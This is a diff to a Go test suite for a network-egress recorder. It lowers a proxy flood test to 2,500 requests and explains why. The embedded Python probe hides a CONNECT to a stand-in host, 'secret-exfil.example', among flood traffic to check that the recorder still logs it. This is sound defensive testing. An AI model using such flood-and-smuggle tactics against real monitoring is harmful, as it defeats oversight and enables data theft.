@@ -279,8 +279,12 @@ func TestParseQueryEveryQuestion(t *testing.T) {
 
 // TestProxyFloodIsRecorded: 64 connections held idle, then 1,500 CONNECTs
 // on connections of their own, then the secret, then an exit without
-// reading an answer; and 4,000 requests on connections closed at once.
-// Every request is recorded.
+// reading an answer; and 2,500 requests on connections closed at once.
+// Every request is recorded. (4,000 left the listener's queue, 4,096 in a
+// fresh namespace, too little room where the proxy's goroutines waited
+// for a CPU that a CI run's other packages held: a run refused one
+// connection and, rightly, called its record incomplete. A flood past
+// the queue is TestProxyOverflowIsReported's.)
 func TestProxyFloodIsRecorded(t *testing.T) {
 	needNamespaces(t)
 	res := lossRun(t, evidence.EgressRecord, pyProbe(`
@@ -293,13 +297,13 @@ s = socket.create_connection(proxy())
 s.sendall(b"CONNECT secret-exfil.example:443 HTTP/1.1\r\n\r\n")
 os._exit(0)
 `), pyProbe(`
-for i in range(4000):
+for i in range(2500):
     s = socket.create_connection(proxy())
     s.sendall(b"GET http://flood.example/%d HTTP/1.1\r\nHost: flood.example\r\n\r\n" % i)
     s.close()
 os._exit(0)
 `))
-	wantWhole(t, res, evidence.ViaProxy, map[string]int{"junk.example": 1500, "secret-exfil.example": 1, "flood.example": 4000})
+	wantWhole(t, res, evidence.ViaProxy, map[string]int{"junk.example": 1500, "secret-exfil.example": 1, "flood.example": 2500})
 }
 
 // TestProxyOverflowIsReported: as TestDNSTCPOverflowIsReported, for the
